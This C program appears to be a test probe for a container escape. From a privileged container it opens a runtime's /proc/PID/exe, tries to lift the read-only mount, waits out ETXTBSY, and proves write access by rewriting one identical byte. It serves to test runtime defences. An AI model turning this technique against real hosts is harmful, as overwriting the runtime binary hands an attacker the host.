/* What a privileged container (CAP_SYS_ADMIN, CAP_SYS_PTRACE, no user namespace) can
 * try against a runtime process it sees: take its /proc/PID/exe, clear the read-only
 * flag of the mount that link leads to, and reopen the binary for writing once no
 * process runs it any more. Writes one line per step to OUT, the outcome last.
 * Usage: selfexe-attack /proc/PID/exe OUT */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif
#ifndef SYS_open_tree
#define SYS_open_tree 428
#endif

struct attr {
    uint64_t set, clr, propagation, userns_fd;
};

static void say(const char *out, const char *line) {
    FILE *f = fopen(out, "a");
    if (f) {
        fprintf(f, "%s\n", line);
        fclose(f);
    }
}

int main(int argc, char **argv) {
    char line[256], path[64];
    if (argc != 3)
        return 2;
    int fd = open(argv[1], O_PATH | O_CLOEXEC);
    if (fd < 0) {
        snprintf(line, sizeof line, "open exe: %s", strerror(errno));
        say(argv[2], line);
        say(argv[2], "result: no-exe");
        return 1;
    }
    struct attr a = {.clr = 0x1 /* MOUNT_ATTR_RDONLY */};
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &a, sizeof a) == 0)
        say(argv[2], "mount_setattr: cleared MOUNT_ATTR_RDONLY");
    else {
        snprintf(line, sizeof line, "mount_setattr: %s", strerror(errno));
        say(argv[2], line);
        if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
            say(argv[2], "remount: read-write");
        else {
            snprintf(line, sizeof line, "remount: %s", strerror(errno));
            say(argv[2], line);
        }
        /* OPEN_TREE_CLONE | AT_EMPTY_PATH */
        int tree = syscall(SYS_open_tree, fd, "", 1 | AT_EMPTY_PATH | O_CLOEXEC);
        if (tree < 0) {
            snprintf(line, sizeof line, "open_tree: %s", strerror(errno));
            say(argv[2], line);
        } else if (syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &a, sizeof a) == 0) {
            say(argv[2], "open_tree: a writable clone");
            fd = tree;
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        } else {
            snprintf(line, sizeof line, "open_tree, mount_setattr: %s", strerror(errno));
            say(argv[2], line);
        }
    }
    say(argv[2], "waiting");
    /* The runtime still runs the binary (ETXTBSY) until the container starts. */
    for (int i = 0; i < 600; i++) {
        int w = open(path, O_WRONLY | O_CLOEXEC);
        if (w >= 0) {
            /* Proof of write access that leaves the file as it was: its ELF magic. */
            ssize_t n = pwrite(w, "\x7f", 1, 0);
            snprintf(line, sizeof line, "result: writable (pwrite %zd)", n);
            say(argv[2], line);
            return 0;
        }
        if (errno != ETXTBSY) {
            snprintf(line, sizeof line, "result: %s", strerror(errno));
            say(argv[2], line);
            return 1;
        }
        usleep(50000);
    }
    say(argv[2], "result: timeout (ETXTBSY)");
    return 1;
}
